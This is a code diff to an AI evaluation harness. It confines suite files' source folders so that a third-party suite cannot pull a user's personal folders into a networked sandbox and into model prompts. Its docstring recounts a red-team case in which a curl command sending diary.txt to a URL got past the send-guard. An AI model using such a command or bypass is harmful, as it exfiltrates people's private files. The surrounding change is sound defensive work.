@@ -7,13 +7,13 @@ scripted model plays) and a ``check``. Built-in suites live beside this module i
 
 from __future__ import annotations
 
-from collections.abc import Callable
+from collections.abc import Callable, Sequence
 from pathlib import Path
 from typing import Annotated, Any, Literal
 
 from pydantic import BaseModel, ConfigDict, Field, model_validator
 
-from macrohard.errors import TaskFileError
+from macrohard.errors import ConfigError, TaskFileError
 from macrohard.types import Budget, RunStatus, Task
 from macrohard.yamlfile import load_model, read_text
 
@@ -190,8 +190,9 @@ def parse_suite(text: str, source: str = "<suite>") -> Suite:
     return suite
 
 
-def load_suite(name_or_path: str | Path) -> Suite:
-    """A built-in suite by name (`tiny`, `coding`, ...) or a YAML file by path."""
+def load_suite(name_or_path: str | Path, allow_sources: Sequence[str | Path] = ()) -> Suite:
+    """A built-in suite by name (`tiny`, `coding`, ...) or a YAML file by path (its tasks' ``source:`` confined to
+    the suite's own folder and ``allow_sources``: see ``confine_sources``)."""
     if str(name_or_path) in GENERATED:
         return GENERATED[str(name_or_path)]()
     builtins = builtin_suites()
@@ -203,4 +204,31 @@ def load_suite(name_or_path: str | Path) -> Suite:
             raise TaskFileError(f"no suite {str(name_or_path)!r}: give a YAML file or one of the built-in suites "
                                 f"({', '.join(builtin_names())}); `macrohard eval list` shows them")
     text = read_text(path, error=TaskFileError, what="suite", hint="it needs `name:` and `tasks:`")
-    return parse_suite(text, str(path))
+    suite = parse_suite(text, str(path))
+    if str(name_or_path) not in builtins:
+        confine_sources(suite, path, allow_sources)
+    return suite
+
+
+def confine_sources(suite: Suite, path: Path, allow_sources: Sequence[str | Path] = ()) -> None:
+    """A suite file's ``source:`` may name only a folder beside it (a relative path is read from the suite's own
+    folder) or one the person named with ``--allow-source``. rt48c: a suite written by someone else named
+    ``source: ~/Documents`` (any of the person's folders) with ``network: full``: the person's files were copied into
+    a run that can send, and into every prompt to the model; only the guard's reading of each send stood between
+    them and the suite's author (and rt48c got ``curl --data-urlencode d@diary.txt URL`` past it). Each source is
+    stored resolved, so the run starts from the folder that was checked."""
+    folder = path.expanduser().resolve().parent
+    allowed = [folder, *(Path(a).expanduser().resolve() for a in allow_sources)]
+    for task in suite.tasks:
+        if not task.source:
+            continue
+        given = Path(task.source).expanduser()
+        resolved = (given if given.is_absolute() else folder / given).resolve()
+        if not any(resolved == a or a in resolved.parents for a in allowed):
+            raise ConfigError(
+                f"the suite {path} (task {task.id!r}) names `source: {task.source}`, a folder outside the suite's own "
+                f"folder {folder}: a suite file chooses which of your folders its runs copy into their sandbox (and "
+                f"send to the model){', with network ' + repr(task.network) if task.network != 'none' else ''}. If "
+                f"you mean it, say it yourself: `macrohard eval run {path} --allow-source {resolved}`; or put the "
+                "folder beside the suite and name it relative to the suite (`source: repos/NAME`)")
+        task.source = str(resolved)
